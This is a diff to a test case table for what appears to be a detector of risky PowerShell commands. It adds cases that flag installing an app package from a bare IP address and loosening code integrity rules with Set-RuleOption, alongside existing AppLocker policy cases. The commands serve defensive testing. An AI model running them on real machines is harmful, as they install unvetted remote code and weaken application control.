@@ -41,6 +41,16 @@ CALL = "Invoke-CimMethod -Namespace root\\Microsoft\\Windows\\CI -MethodName Upd
             "install_untrusted",
         ),
         ("Add-AppxPackage C:\\lab\\a.msix", [], ""),
+        (
+            "Add-AppxPackage -AppInstallerFile http://203.0.113.4/a.appinstaller",
+            ["package_installed", "application_from_nobody", "input_bare_address"],
+            "install_untrusted",
+        ),
+        ("Add-AppxPackage -AppInstallerFile https://apps.contoso.example/a.appinstaller", [], ""),
+        ("Set-RuleOption -FilePath a.xml -Option 6", ["policy_loosened"], "change_code_integrity_policy"),
+        ("Set-RuleOption a.xml 3", ["policy_loosened"], "change_code_integrity_policy"),
+        ("Set-RuleOption -FilePath a.xml -Option 6 -Delete", [], ""),
+        ("Set-RuleOption -FilePath a.xml -Option 16", [], ""),
         ("Set-AppLockerPolicy -XmlPolicy C:\\lab\\a.xml", ["code_integrity_policy"], "change_code_integrity_policy"),
         (
             "Set-AppLockerPolicy -XmlPolicy C:\\Users\\Public\\a.xml",
